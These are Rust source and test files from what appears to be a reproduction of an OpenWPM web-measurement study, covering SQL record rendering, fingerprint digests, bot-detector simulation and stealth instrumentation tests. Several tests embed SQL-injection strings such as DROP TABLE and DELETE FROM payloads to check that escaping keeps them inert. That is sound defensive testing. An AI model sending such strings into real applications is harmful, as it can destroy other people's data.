                "INSERT INTO http_requests VALUES ('{}', '{}', '{}', '{}', {});\n",
                Self::sql_escape(&req.url.to_string()),
                Self::sql_escape(&req.page.to_string()),
                req.resource_type.as_str(),
                req.method,
                req.time_ms
            ));
        }
        for s in &self.saved_scripts {
            out.push_str(&format!(
                "INSERT INTO javascript_files VALUES ('{}', '{}', '{}');\n",
                Self::sql_escape(&s.url),
                Self::sql_escape(&s.page_url),
                Self::sql_escape(&s.body)
            ));
        }
        for c in &self.cookies {
            out.push_str(&format!(
                "INSERT INTO cookies VALUES ('{}', '{}', '{}', '{}', {});\n",
                Self::sql_escape(&c.name),
                Self::sql_escape(&c.value),
                Self::sql_escape(&c.domain),
                Self::sql_escape(&c.page_domain),
                c.expires_in_s.map(|e| e as i64).unwrap_or(-1)
            ));
        }
        out.push_str(&Self::render_crawl_history(&self.crawl_history));
        out
    }

    /// Render `crawl_history` INSERTs plus `incomplete_visits` rows for
    /// every non-ok visit — the same completeness bookkeeping OpenWPM
    /// keeps, through the same escaped-literal persistence path.
    pub fn render_crawl_history(records: &[CrawlHistoryRecord]) -> String {
        let mut out = String::new();
        for r in records {
            out.push_str(&format!(
                "INSERT INTO crawl_history VALUES ({}, '{}', '{}', '{}', {});\n",
                r.visit_id,
                Self::sql_escape(&r.site_url),
                r.status.as_str(),
                Self::sql_escape(&r.error),
                r.attempts
            ));
        }
        for r in records {
            if r.status != CrawlStatus::Ok {
                out.push_str(&format!(
                    "INSERT INTO incomplete_visits VALUES ({});\n",
                    r.visit_id
                ));
            }
        }
        out
    }

    /// Fingerprint this store for the crawl archive: per-table record
    /// counts plus one order-dependent digest over every field of every
    /// record. See [`StoreCapture`].
    pub fn capture(&self) -> StoreCapture {
        StoreCapture::of(self)
    }

    /// Merge another store (after subpage visits).
    pub fn merge(&mut self, other: RecordStore) {
        self.js_calls.extend(other.js_calls);
        self.http_requests.extend(other.http_requests);
        self.http_responses.extend(other.http_responses);
        self.saved_scripts.extend(other.saved_scripts);
        self.cookies.extend(other.cookies);
        self.crawl_history.extend(other.crawl_history);
        self.malformed_events += other.malformed_events;
    }
}

/// A [`RecordStore`] fingerprint, captured per visit by the crawl archive
/// and re-computed during replay: per-table counts plus an order-dependent
/// FNV-64 digest over every field of every record. A replayed visit whose
/// re-derived records differ from the recorded ones in *any* field — an
/// extra JS call, a shifted timestamp, a changed cookie value — produces a
/// different digest, which the replay verifier reports as a divergence.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct StoreCapture {
    pub js_calls: u64,
    pub http_requests: u64,
    pub http_responses: u64,
    pub saved_scripts: u64,
    pub cookies: u64,
    pub crawl_history: u64,
    pub malformed_events: u64,
    /// Order-dependent FNV-64 over all record fields.
    pub digest: u64,
}

/// Archive encoding separator (ASCII `GS`): safe inside manifest payloads,
/// which only reject `US` and newlines.
const CAPTURE_SEP: char = '\x1d';

impl StoreCapture {
    /// Fingerprint `store`. The digest folds the SQL dump (which covers
    /// js_calls, http_requests, saved scripts, cookies and crawl_history
    /// field-by-field) and then each HTTP response's wire line — responses
    /// are the one table the dump omits, and their bodies enter via the
    /// body hash in [`netsim::wire::encode_response`].
    pub fn of(store: &RecordStore) -> StoreCapture {
        let mut h = obs::fnv1a(store.render_sql_dump().as_bytes());
        for resp in &store.http_responses {
            h = fnv_fold(h, netsim::wire::encode_response(resp).as_bytes());
        }
        h = fnv_fold(h, store.malformed_events.to_string().as_bytes());
        StoreCapture {
            js_calls: store.js_calls.len() as u64,
            http_requests: store.http_requests.len() as u64,
            http_responses: store.http_responses.len() as u64,
            saved_scripts: store.saved_scripts.len() as u64,
            cookies: store.cookies.len() as u64,
            crawl_history: store.crawl_history.len() as u64,
            malformed_events: store.malformed_events,
            digest: h,
        }
    }

    /// Archive encoding: GS-joined counts then the digest in hex.
    pub fn encode(&self) -> String {
        let s = CAPTURE_SEP;
        format!(
            "{}{s}{}{s}{}{s}{}{s}{}{s}{}{s}{}{s}{:016x}",
            self.js_calls,
            self.http_requests,
            self.http_responses,
            self.saved_scripts,
            self.cookies,
            self.crawl_history,
            self.malformed_events,
            self.digest
        )
    }

    /// Inverse of [`StoreCapture::encode`]; `None` on malformed input.
    pub fn decode(s: &str) -> Option<StoreCapture> {
        let parts: Vec<&str> = s.split(CAPTURE_SEP).collect();
        let [a, b, c, d, e, f, g, digest] = parts.as_slice() else {
            return None;
        };
        Some(StoreCapture {
            js_calls: a.parse().ok()?,
            http_requests: b.parse().ok()?,
            http_responses: c.parse().ok()?,
            saved_scripts: d.parse().ok()?,
            cookies: e.parse().ok()?,
            crawl_history: f.parse().ok()?,
            malformed_events: g.parse().ok()?,
            digest: u64::from_str_radix(digest, 16).ok()?,
        })
    }

    /// Total records across all tables (diff reporting).
    pub fn total_records(&self) -> u64 {
        self.js_calls
            + self.http_requests
            + self.http_responses
            + self.saved_scripts
            + self.cookies
            + self.crawl_history
    }
}

/// Continue an FNV-1a fold over more bytes.
fn fnv_fold(mut h: u64, bytes: &[u8]) -> u64 {
    for b in bytes {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100_0000_01B3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(value: &str) -> JsCallRecord {
        JsCallRecord {
            symbol: "window.navigator.userAgent".into(),
            operation: JsOperation::Get,
            value: value.into(),
            script_url: "https://site.test/app.js".into(),
            page_url: "https://site.test/".into(),
            time_ms: 12,
        }
    }

    /// Count semicolons that appear *outside* string literals — i.e.
    /// statement terminators an injection would need to smuggle in.
    fn terminators_outside_literals(sql: &str) -> usize {
        let mut chars = sql.chars().peekable();
        let mut in_literal = false;
        let mut terminators = 0;
        while let Some(c) = chars.next() {
            match c {
                '\'' => {
                    if in_literal && chars.peek() == Some(&'\'') {
                        chars.next(); // doubled quote: still inside literal
                    } else {
                        in_literal = !in_literal;
                    }
                }
                ';' if !in_literal => terminators += 1,
                _ => {}
            }
        }
        assert!(!in_literal, "unterminated literal in: {sql}");
        terminators
    }

    #[test]
    fn sql_injection_inputs_are_inert() {
        let evil = rec("x'); DROP TABLE javascript; --");
        let sql = RecordStore::render_js_insert(&evil);
        // The payload stays data inside one literal: exactly one statement
        // terminator survives outside literals.
        assert_eq!(terminators_outside_literals(&sql), 1);
        assert!(sql.contains("x''); DROP TABLE"));
        assert!(sql.ends_with(");"));
    }

    #[test]
    fn benign_insert_has_single_terminator() {
        let sql = RecordStore::render_js_insert(&rec("plain value"));
        assert_eq!(terminators_outside_literals(&sql), 1);
    }

    #[test]
    fn control_characters_stripped() {
        let evil = rec("a\n; DELETE FROM javascript\rb");
        let sql = RecordStore::render_js_insert(&evil);
        assert!(!sql.contains('\n'));
        assert!(!sql.contains('\r'));
    }

    #[test]
    fn distinct_symbols_and_filters() {
        let mut store = RecordStore::new();
        store.js_calls.push(rec("a"));
        store.js_calls.push(rec("b"));
        store.js_calls.push(JsCallRecord {
            symbol: "window.navigator.webdriver".into(),
            ..rec("c")
        });
        assert_eq!(store.distinct_symbols(), 2);
        assert_eq!(store.calls_to(".webdriver").count(), 1);
        assert_eq!(store.calls_to(".userAgent").count(), 2);
    }

    #[test]
    fn sql_dump_contains_schema_and_rows() {
        let mut store = RecordStore::new();
        store.js_calls.push(rec("v'); DROP TABLE cookies; --"));
        store.cookies.push(netsim::Cookie {
            name: "uid".into(),
            value: "x'y".into(),
            domain: "t.io".into(),
            page_domain: "a.com".into(),
            expires_in_s: Some(100),
        });
        let dump = store.render_sql_dump();
        assert!(dump.contains("CREATE TABLE javascript"));
        assert!(dump.contains("INSERT INTO javascript "));
        assert!(dump.contains("INSERT INTO cookies"));
        // Escaping holds across every table.
        assert!(dump.contains("x''y"));
        assert!(dump.contains("v''); DROP TABLE"));
    }

    #[test]
    fn merge_concatenates() {
        let mut a = RecordStore::new();
        a.js_calls.push(rec("x"));
        a.malformed_events = 2;
        let mut b = RecordStore::new();
        b.js_calls.push(rec("y"));
        b.malformed_events = 3;
        b.crawl_history.push(CrawlHistoryRecord::ok(1, "https://a.test/", 1));
        a.merge(b);
        assert_eq!(a.js_calls.len(), 2);
        assert_eq!(a.malformed_events, 5);
        assert_eq!(a.crawl_history.len(), 1);
    }

    #[test]
    fn js_operation_parse_rejects_unknown_strings() {
        assert_eq!(JsOperation::parse("get"), Some(JsOperation::Get));
        assert_eq!(JsOperation::parse("set"), Some(JsOperation::Set));
        assert_eq!(JsOperation::parse("call"), Some(JsOperation::Call));
        assert_eq!(JsOperation::parse(""), None);
        assert_eq!(JsOperation::parse("GET"), None);
        assert_eq!(JsOperation::parse("delete"), None);
        assert_eq!(JsOperation::parse("get'); DROP TABLE javascript; --"), None);
    }

    #[test]
    fn crawl_history_renders_with_incomplete_visits() {
        let records = vec![
            CrawlHistoryRecord::ok(0, "https://w000000.com/", 1),
            CrawlHistoryRecord::failed(1, "https://w000001.com/", "browser_crash", 3),
            CrawlHistoryRecord::interrupted(2, "https://w000002.com/"),
        ];
        let sql = RecordStore::render_crawl_history(&records);
        assert!(sql.contains(
            "INSERT INTO crawl_history VALUES (0, 'https://w000000.com/', 'ok', '', 1);"
        ));
        assert!(sql.contains("'failed', 'browser_crash', 3"));
        assert!(sql.contains("'interrupted', '', 0"));
        // Only the two non-ok visits appear in incomplete_visits.
        assert!(!sql.contains("INSERT INTO incomplete_visits VALUES (0);"));
        assert!(sql.contains("INSERT INTO incomplete_visits VALUES (1);"));
        assert!(sql.contains("INSERT INTO incomplete_visits VALUES (2);"));
    }

    #[test]
    fn crawl_history_escaping_holds() {
        let evil = CrawlHistoryRecord::failed(
            7,
            "https://x.test/'); DROP TABLE crawl_history; --",
            "nav'err",
            2,
        );
        let sql = RecordStore::render_crawl_history(&[evil]);
        assert!(sql.contains("''); DROP TABLE"));
        assert!(sql.contains("nav''err"));
    }

    #[test]
    fn capture_roundtrip_and_field_sensitivity() {
        let mut store = RecordStore::new();
        store.js_calls.push(rec("v"));
        store.http_requests.push(HttpRequest {
            url: netsim::Url::parse("https://cdn.a.com/x.js").unwrap(),
            page: netsim::Url::parse("https://a.com/").unwrap(),
            resource_type: netsim::ResourceType::Script,
            method: "GET",
            time_ms: 5,
        });
        store.http_responses.push(HttpResponse {
            url: netsim::Url::parse("https://cdn.a.com/x.js").unwrap(),
            status: 200,
            content_type: "text/javascript".into(),
            body: "var x;".into(),
        });
        store.crawl_history.push(CrawlHistoryRecord::ok(0, "https://a.com/", 1));

        let cap = store.capture();
        assert_eq!(cap.js_calls, 1);
        assert_eq!(cap.http_requests, 1);
        assert_eq!(cap.http_responses, 1);
        assert_eq!(cap.crawl_history, 1);
        assert_eq!(cap.total_records(), 4);
        assert_eq!(StoreCapture::decode(&cap.encode()), Some(cap));

        // Any field change shifts the digest — including a response body,
        // which only enters via its hash.
        let mut tweaked = store.clone();
        tweaked.http_responses[0].body = "var y;".into();
        let cap2 = tweaked.capture();
        assert_eq!(cap.total_records(), cap2.total_records());
        assert_ne!(cap.digest, cap2.digest);

        let mut tweaked = store.clone();
        tweaked.js_calls[0].time_ms += 1;
        assert_ne!(cap.digest, tweaked.capture().digest);

        assert!(StoreCapture::decode("").is_none());
        assert!(StoreCapture::decode("1\x1d2").is_none());
    }

    #[test]
    fn sql_dump_includes_crawl_history_schema() {
        let mut store = RecordStore::new();
        store.crawl_history.push(CrawlHistoryRecord::failed(
            3,
            "https://w000003.com/",
            "timeout",
            3,
        ));
        let dump = store.render_sql_dump();
        assert!(dump.contains("CREATE TABLE crawl_history"));
        assert!(dump.contains("CREATE TABLE incomplete_visits"));
        assert!(dump.contains("INSERT INTO crawl_history VALUES (3,"));
        assert!(dump.contains("INSERT INTO incomplete_visits VALUES (3);"));
    }
}
