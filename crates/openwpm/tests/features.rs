//! Integration tests for framework features: instrument vintages (RQ2),
//! interaction simulation, crash recovery, and multi-frame instrumentation.

use std::cell::RefCell;
use std::rc::Rc;

use browser::{FingerprintProfile, Os, Page, RunMode};
use netsim::Url;
use openwpm::instrument::vanilla::{self, InstrumentVintage};
use openwpm::{Browser, BrowserConfig, PageScript, RecordStore, SiteResponse, VisitSpec};

fn fresh_page() -> Page {
    Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        Url::parse("https://site.test/").unwrap(),
        None,
    )
}

#[test]
fn vintage_0_10_leaves_two_window_functions() {
    // Paper Sec. 3.2: "In the oldest OpenWPM version (0.10.0), we find that
    // the JavaScript instrument adds two properties instead of one to the
    // window object (jsInstruments and instrumentFingerprintingApis)."
    let mut page = fresh_page();
    let store = Rc::new(RefCell::new(RecordStore::new()));
    assert!(vanilla::install_vintage(
        &mut page,
        3,
        store,
        "p".into(),
        InstrumentVintage::V0_10
    ));
    let v = page
        .run_script((
            "[typeof window.jsInstruments, typeof window.instrumentFingerprintingApis, \
             typeof window.getInstrumentJS].join(',')",
            "probe",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "function,function,undefined");
}

#[test]
fn vintage_modern_leaves_one_window_function() {
    let mut page = fresh_page();
    let store = Rc::new(RefCell::new(RecordStore::new()));
    assert!(vanilla::install_vintage(&mut page, 3, store, "p".into(), InstrumentVintage::Modern));
    let v = page
        .run_script((
            "[typeof window.getInstrumentJS, typeof window.jsInstruments].join(',')",
            "probe",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "function,undefined");
}

#[test]
fn vintages_share_the_wrapping_surface() {
    // RQ2: fingerprint surfaces across versions largely overlap — the
    // toString leak is identical in both vintages.
    for vintage in [InstrumentVintage::Modern, InstrumentVintage::V0_10] {
        let mut page = fresh_page();
        let store = Rc::new(RefCell::new(RecordStore::new()));
        vanilla::install_vintage(&mut page, 3, store.clone(), "p".into(), vintage);
        let ts = page.run_script(("document.createElement.toString()", "probe")).unwrap();
        assert!(
            !ts.as_str().unwrap().contains("[native code]"),
            "{vintage:?} must show the wrapper"
        );
        page.run_script(("navigator.userAgent;", "probe2")).unwrap();
        assert!(store.borrow().js_calls.iter().any(|r| r.symbol.ends_with(".userAgent")));
    }
}

#[test]
fn interaction_triggers_hover_gated_detectors() {
    let detector = detect::corpus::selenium_detector(
        detect::Technique::HoverGated,
        "https://bd.test/v",
    );
    let spec = VisitSpec {
        url: "https://site.test/".into(),
        scripts: vec![PageScript {
            url: "https://bd.test/gated.js".into(),
            source: detector.into(),
            content_type: "text/javascript".into(),
        }],
        dwell_override_s: Some(2),
        ..Default::default()
    };
    // Without interaction: no verdict beacon.
    let mut plain = Browser::new(BrowserConfig::vanilla(5));
    let mut beacons = 0;
        let _ = plain.visit(&spec, |traffic| {
        beacons = traffic
            .iter()
            .filter(|r| r.resource_type == netsim::ResourceType::Beacon)
            .count();
        SiteResponse::default()
    });
    assert_eq!(beacons, 0, "hover-gated code must stay dormant without interaction");

    // With interaction: the detector fires (and flags the client).
    let mut cfg = BrowserConfig::vanilla(5);
    cfg.simulate_interaction = true;
    let mut interacting = Browser::new(cfg);
    let mut verdict = None;
        let _ = interacting.visit(&spec, |traffic| {
        verdict = traffic
            .iter()
            .find(|r| r.resource_type == netsim::ResourceType::Beacon)
            .map(|r| r.url.query.clone());
        SiteResponse::default()
    });
    assert_eq!(verdict.as_deref(), Some("bot=1"), "interaction must execute the gated probe");
}

#[test]
fn crash_simulation_recovers_and_records() {
    let mut cfg = BrowserConfig::vanilla(5);
    cfg.crash_per_mille = 1000; // crash every visit, retry once
    let mut b = Browser::new(cfg);
    let spec = VisitSpec {
        url: "https://site.test/".into(),
        dwell_override_s: Some(1),
        ..Default::default()
    };
    let stats = b.visit(&spec, |_| SiteResponse::default()).expect("test URL parses");
    assert_eq!(stats.crashes, 1);
    // The retried visit still produced records.
    let store = b.take_store();
    assert!(store
        .http_requests
        .iter()
        .any(|r| r.resource_type == netsim::ResourceType::MainFrame));
}

#[test]
fn no_crashes_by_default() {
    let mut b = Browser::new(BrowserConfig::vanilla(5));
    let spec = VisitSpec {
        url: "https://site.test/".into(),
        dwell_override_s: Some(1),
        ..Default::default()
    };
    let stats = b.visit(&spec, |_| SiteResponse::default()).expect("test URL parses");
    assert_eq!(stats.crashes, 0);
}

#[test]
fn multiple_sequential_frames_all_covered_by_stealth() {
    let mut b = Browser::new(BrowserConfig::stealth(6));
    let spec = VisitSpec {
        url: "https://site.test/".into(),
        scripts: vec![PageScript {
            url: "https://site.test/frames.js".into(),
            source: r#"
                for (var i = 0; i < 5; i++) {
                    var f = document.createElement('iframe');
                    document.body.appendChild(f);
                    f.contentWindow.navigator.userAgent;
                    f.contentWindow.screen.availTop;
                }
            "#
            .into(),
            content_type: "text/javascript".into(),
        }],
        dwell_override_s: Some(1),
        ..Default::default()
    };
        let _ = b.visit(&spec, |_| SiteResponse::default());
    let store = b.take_store();
    assert_eq!(store.calls_to(".userAgent").count(), 5);
    assert_eq!(store.calls_to(".availTop").count(), 5);
}

#[test]
fn vanilla_misses_all_sequential_immediate_frame_accesses() {
    let mut b = Browser::new(BrowserConfig::vanilla(6));
    let spec = VisitSpec {
        url: "https://site.test/".into(),
        scripts: vec![PageScript {
            url: "https://site.test/frames.js".into(),
            source: r#"
                for (var i = 0; i < 5; i++) {
                    var f = document.createElement('iframe');
                    document.body.appendChild(f);
                    f.contentWindow.navigator.userAgent;
                }
            "#
            .into(),
            content_type: "text/javascript".into(),
        }],
        dwell_override_s: Some(1),
        ..Default::default()
    };
        let _ = b.visit(&spec, |_| SiteResponse::default());
    let store = b.take_store();
    assert_eq!(
        store
            .calls_to(".userAgent")
            .filter(|r| r.script_url.contains("frames.js"))
            .count(),
        0,
        "all immediate in-frame accesses evade the racy injection"
    );
}

#[test]
fn canvas_fingerprinting_apis_are_instrumented_by_both_flavours() {
    let script = r#"
        var c = document.createElement('canvas');
        var gl = c.getContext('webgl');
        var hash = c.toDataURL();
        window.__cfp = hash;
    "#;
    for (cfg, label) in [(BrowserConfig::vanilla(8), "vanilla"), (BrowserConfig::stealth(8), "stealth")] {
        let mut b = Browser::new(cfg);
        let spec = VisitSpec {
            url: "https://site.test/".into(),
            scripts: vec![PageScript {
                url: "https://fp.test/canvas.js".into(),
                source: script.into(),
                content_type: "text/javascript".into(),
            }],
            dwell_override_s: Some(1),
            ..Default::default()
        };
                let _ = b.visit(&spec, |_| SiteResponse::default());
        let store = b.take_store();
        assert!(
            store.calls_to(".getContext").count() >= 1,
            "{label}: getContext unrecorded"
        );
        assert!(
            store.calls_to(".toDataURL").count() >= 1,
            "{label}: toDataURL unrecorded"
        );
    }
}

#[test]
fn canvas_hash_is_stable_per_profile_and_differs_across_modes() {
    let hash_for = |mode| {
        let mut page = Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, mode),
            Url::parse("https://site.test/").unwrap(),
            None,
        );
        page.run_script(("document.createElement('canvas').toDataURL()", "t"))
            .unwrap()
            .as_str()
            .unwrap()
            .to_string()
    };
    let a = hash_for(RunMode::Regular);
    let b = hash_for(RunMode::Regular);
    assert_eq!(a, b, "same profile, same pixels");
    let docker = hash_for(RunMode::Docker);
    assert_ne!(a, docker, "different renderer, different pixels");
}
