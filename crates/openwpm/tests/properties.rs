//! Property-based tests for the record store's injection safety and the
//! instrument's id generation.

use openwpm::instrument::vanilla::event_id;
use openwpm::{JsCallRecord, JsOperation, RecordStore};
use proplite::{run_cases, Rng};

/// Count semicolons outside single-quoted literals (with `''` escapes) —
/// extra ones would be smuggled statement terminators.
fn terminators_outside_literals(sql: &str) -> Option<usize> {
    let mut chars = sql.chars().peekable();
    let mut in_literal = false;
    let mut terminators = 0;
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                if in_literal && chars.peek() == Some(&'\'') {
                    chars.next();
                } else {
                    in_literal = !in_literal;
                }
            }
            ';' if !in_literal => terminators += 1,
            _ => {}
        }
    }
    if in_literal {
        None // unterminated literal: the escaping failed
    } else {
        Some(terminators)
    }
}

/// No input — however hostile — can smuggle a second SQL statement or
/// leave a literal unterminated (the Sec. 5.3 guarantee).
#[test]
fn sql_rendering_is_injection_proof() {
    run_cases(256, 0x0005_EC53, |rng: &mut Rng| {
        let rec = JsCallRecord {
            symbol: rng.any_string(0, 60),
            operation: JsOperation::Get,
            value: rng.any_string(0, 120),
            script_url: rng.any_string(0, 60),
            page_url: "https://site.test/".into(),
            time_ms: 1,
        };
        let sql = RecordStore::render_js_insert(&rec);
        assert_eq!(terminators_outside_literals(&sql), Some(1), "sql: {sql}");
        assert!(sql.starts_with("INSERT INTO javascript"));
        assert!(sql.ends_with(");"));
    });
}

/// Event ids are deterministic per seed and collision-free across a dense
/// seed range.
#[test]
fn event_ids_deterministic_and_distinct() {
    run_cases(256, 0xE4E4, |rng: &mut Rng| {
        let seed = rng.next_u64();
        assert_eq!(event_id(seed), event_id(seed));
        assert_ne!(event_id(seed), event_id(seed.wrapping_add(1)));
        assert!(event_id(seed).starts_with("owpm"));
    });
}

/// Escaping round-trips: un-escaping the doubled quotes of the escaped
/// string recovers the control-character-stripped input.
#[test]
fn sql_escape_roundtrip() {
    run_cases(256, 0x20AD, |rng: &mut Rng| {
        let s = rng.ascii(0, 100);
        let escaped = RecordStore::sql_escape(&s);
        let unescaped = escaped.replace("''", "'");
        let stripped: String = s.chars().filter(|c| !c.is_control()).collect();
        assert_eq!(unescaped, stripped);
    });
}
