//! Property-based tests for the synthetic population's invariants.

use proptest::prelude::*;
use webgen::{behaviour, visit_spec, PageKind, Population};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Plan generation is total and structurally sound for any seed/rank.
    #[test]
    fn plans_are_structurally_sound(seed in any::<u64>(), rank in 0u32..5_000) {
        let pop = Population::new(5_000, seed);
        let plan = pop.plan(rank);
        prop_assert!(!plan.domain.is_empty());
        prop_assert!(plan.subpage_count <= 3);
        prop_assert!(!plan.categories.is_empty());
        // Site-wide inclusions propagate: front detectors ⊆ subpage set.
        for d in &plan.front.third_party {
            prop_assert!(plan.subpage.third_party.contains(d));
        }
        // Subpage-only detector sites always have a reachable subpage.
        if !plan.front_has_detector() && !plan.subpage.is_empty() {
            prop_assert!(plan.subpage_count >= 1);
        }
        // URLs parse.
        let _ = plan.front_url();
        let _ = plan.subpage_url(0);
    }

    /// Visit specs always carry at least the generic site script and all
    /// scripts have parseable URLs.
    #[test]
    fn visit_specs_are_well_formed(seed in any::<u64>(), rank in 0u32..2_000) {
        let pop = Population::new(2_000, seed);
        let plan = pop.plan(rank);
        for page in [PageKind::Front, PageKind::Subpage(0)] {
            let spec = visit_spec(&plan, page);
            prop_assert!(!spec.scripts.is_empty());
            for s in &spec.scripts {
                prop_assert!(netsim::Url::parse(&s.url).is_some(), "bad url {}", s.url);
                // Every script in the corpus parses in the engine.
                prop_assert!(
                    jsengine::parser::parse(&s.source, &s.url).is_ok(),
                    "unparseable script at {}",
                    s.url
                );
            }
        }
    }

    /// Cloaking monotonicity: a flagged client never receives more
    /// requests or cookies than an unflagged one for the same visit.
    #[test]
    fn flagged_clients_never_receive_more(seed in any::<u64>(), rank in 0u32..2_000, run in 1u32..4) {
        let pop = Population::new(2_000, seed);
        let plan = pop.plan(rank);
        let human = behaviour::site_response(&plan, run, 0xAAAA, false, false);
        let bot = behaviour::site_response(&plan, run, 0xAAAA, true, false);
        prop_assert!(bot.extra_requests.len() <= human.extra_requests.len());
        prop_assert!(bot.cookies.len() <= human.cookies.len());
        // Escalated bots receive no more than freshly-flagged bots.
        let escalated = behaviour::site_response(&plan, run, 0xAAAA, true, true);
        prop_assert!(escalated.extra_requests.len() <= bot.extra_requests.len() + 1);
    }

    /// All generated request URLs parse and carry a host.
    #[test]
    fn generated_requests_have_valid_urls(seed in any::<u64>(), rank in 0u32..500) {
        let pop = Population::new(500, seed);
        let plan = pop.plan(rank);
        let resp = behaviour::site_response(&plan, 1, 0xBBBB, false, false);
        for (url, _) in &resp.extra_requests {
            let parsed = netsim::Url::parse(url);
            prop_assert!(parsed.is_some(), "bad url: {url}");
        }
        for c in &resp.cookies {
            prop_assert!(!c.domain.is_empty());
            prop_assert!(!c.name.is_empty());
        }
    }
}
