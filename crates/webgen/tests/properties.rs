//! Property-based tests for the synthetic population's invariants.

use proplite::{run_cases, Rng};
use webgen::{behaviour, visit_spec, PageKind, Population};

/// Plan generation is total and structurally sound for any seed/rank.
#[test]
fn plans_are_structurally_sound() {
    run_cases(64, 0x3EB6, |rng: &mut Rng| {
        let seed = rng.next_u64();
        let rank = rng.u32_in(0, 5_000);
        let pop = Population::new(5_000, seed);
        let plan = pop.plan(rank);
        assert!(!plan.domain.is_empty());
        assert!(plan.subpage_count <= 3);
        assert!(!plan.categories.is_empty());
        // Site-wide inclusions propagate: front detectors ⊆ subpage set.
        for d in &plan.front.third_party {
            assert!(plan.subpage.third_party.contains(d));
        }
        // Subpage-only detector sites always have a reachable subpage.
        if !plan.front_has_detector() && !plan.subpage.is_empty() {
            assert!(plan.subpage_count >= 1);
        }
        // URLs parse.
        let _ = plan.front_url();
        let _ = plan.subpage_url(0);
    });
}

/// Visit specs always carry at least the generic site script and all
/// scripts have parseable URLs.
#[test]
fn visit_specs_are_well_formed() {
    run_cases(64, 0x3EB7, |rng: &mut Rng| {
        let seed = rng.next_u64();
        let rank = rng.u32_in(0, 2_000);
        let pop = Population::new(2_000, seed);
        let plan = pop.plan(rank);
        for page in [PageKind::Front, PageKind::Subpage(0)] {
            let spec = visit_spec(&plan, page);
            assert!(!spec.scripts.is_empty());
            for s in &spec.scripts {
                assert!(netsim::Url::parse(&s.url).is_some(), "bad url {}", s.url);
                // Every script in the corpus parses in the engine.
                assert!(
                    jsengine::parser::parse(&s.source, &s.url).is_ok(),
                    "unparseable script at {}",
                    s.url
                );
            }
        }
    });
}

/// Cloaking monotonicity: a flagged client never receives more
/// requests or cookies than an unflagged one for the same visit.
#[test]
fn flagged_clients_never_receive_more() {
    run_cases(64, 0x3EB8, |rng: &mut Rng| {
        let seed = rng.next_u64();
        let rank = rng.u32_in(0, 2_000);
        let run = rng.u32_in(1, 4);
        let pop = Population::new(2_000, seed);
        let plan = pop.plan(rank);
        let human = behaviour::site_response(&plan, run, 0xAAAA, false, false);
        let bot = behaviour::site_response(&plan, run, 0xAAAA, true, false);
        assert!(bot.extra_requests.len() <= human.extra_requests.len());
        assert!(bot.cookies.len() <= human.cookies.len());
        // Escalated bots receive no more than freshly-flagged bots.
        let escalated = behaviour::site_response(&plan, run, 0xAAAA, true, true);
        assert!(escalated.extra_requests.len() <= bot.extra_requests.len() + 1);
    });
}

/// All generated request URLs parse and carry a host.
#[test]
fn generated_requests_have_valid_urls() {
    run_cases(64, 0x3EB9, |rng: &mut Rng| {
        let seed = rng.next_u64();
        let rank = rng.u32_in(0, 500);
        let pop = Population::new(500, seed);
        let plan = pop.plan(rank);
        let resp = behaviour::site_response(&plan, 1, 0xBBBB, false, false);
        for (url, _) in &resp.extra_requests {
            let parsed = netsim::Url::parse(url);
            assert!(parsed.is_some(), "bad url: {url}");
        }
        for c in &resp.cookies {
            assert!(!c.domain.is_empty());
            assert!(!c.name.is_empty());
        }
    });
}
