//! # webgen — the synthetic Tranco Top-100K population
//!
//! A deterministic, lazily-generated web for the reproduction's crawls.
//! Every site derives from `(seed, rank)`; nothing in the scan or the
//! WPM-vs-WPM_hide comparison reads this crate's ground truth — detection
//! happens because detector scripts (from the `detect` corpus) actually run
//! and observe instrumentation artefacts, and cloaking happens because
//! [`behaviour::site_response`] reacts to the verdict beacons those scripts
//! send.
//!
//! Calibration: the population's *assignment distributions* are tuned to the
//! paper's measured totals (Tables 5–7, 11, 12; Figs. 3–5) so that the
//! analysis pipeline can be validated by re-deriving them end to end.
//! `site::Targets` documents each constant's derivation.

pub mod behaviour;
pub mod blocklists;
pub mod categories;
pub mod materialise;
pub mod providers;
pub mod site;

pub use categories::Category;
pub use materialise::{materialised_bodies, verdict_from_traffic, visit_spec, PageKind};
pub use providers::{FirstPartyOrigin, OpenWpmProvider, OPENWPM_PROVIDERS, TOP_THIRD_PARTY};
pub use site::{CloakPolicy, PageDetectors, Population, SitePlan, Targets};
