//! Detector providers: who serves bot-detection scripts in the synthetic
//! web, calibrated to Tables 6, 7 and 12 of the paper.

use detect::Technique;

/// A third-party domain hosting Selenium-detector scripts (Table 7).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct ThirdPartyProvider {
    pub domain: &'static str,
    /// Share of the 21,325 third-party inclusions (per mille).
    pub weight_per_mille: u32,
    /// WhoTracks.me-style purpose label.
    pub purpose: &'static str,
}

/// The top-10 hosting domains of Table 7 (shares rounded to per-mille of
/// all third-party inclusions); the long tail of 704 further domains is
/// modelled by [`minor_provider_domain`].
pub const TOP_THIRD_PARTY: &[ThirdPartyProvider] = &[
    ThirdPartyProvider { domain: "yandex.ru", weight_per_mille: 180, purpose: "advertising" },
    ThirdPartyProvider { domain: "adsafeprotected.com", weight_per_mille: 108, purpose: "advertising" },
    ThirdPartyProvider { domain: "moatads.com", weight_per_mille: 102, purpose: "advertising" },
    ThirdPartyProvider { domain: "webgains.io", weight_per_mille: 98, purpose: "advertising" },
    ThirdPartyProvider { domain: "crazyegg.com", weight_per_mille: 73, purpose: "site analytics" },
    ThirdPartyProvider { domain: "intercomcdn.com", weight_per_mille: 50, purpose: "live chat" },
    ThirdPartyProvider { domain: "teads.tv", weight_per_mille: 40, purpose: "advertising" },
    ThirdPartyProvider { domain: "jsdelivr.net", weight_per_mille: 20, purpose: "cdn" },
    ThirdPartyProvider { domain: "mxcdn.net", weight_per_mille: 20, purpose: "advertising" },
    ThirdPartyProvider { domain: "mgid.com", weight_per_mille: 19, purpose: "advertising" },
];

/// Number of long-tail third-party detector domains (Table 7 row "11+").
pub const MINOR_PROVIDER_COUNT: u32 = 704;

/// Deterministic long-tail provider domain. Each index is its own
